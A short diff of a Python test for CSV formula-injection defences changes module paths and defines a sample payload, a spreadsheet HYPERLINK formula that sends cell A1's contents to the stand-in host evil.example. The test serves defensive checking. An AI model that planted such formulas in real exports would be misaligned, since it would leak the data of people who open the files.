@@ -1,5 +1,5 @@
 """Formula injection in CSV exports: every CSV the app serves goes through the one writer
-(cases.csv_cells), so a cell a spreadsheet would run arrives prefixed with a quote."""
+(cases.people.csv_cells), so a cell a spreadsheet would run arrives prefixed with a quote."""
 
 from __future__ import annotations
 
@@ -8,7 +8,7 @@ import io
 
 from web_helpers import login
 
-from cases import oversight
+from cases.review import oversight
 
 FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'
 
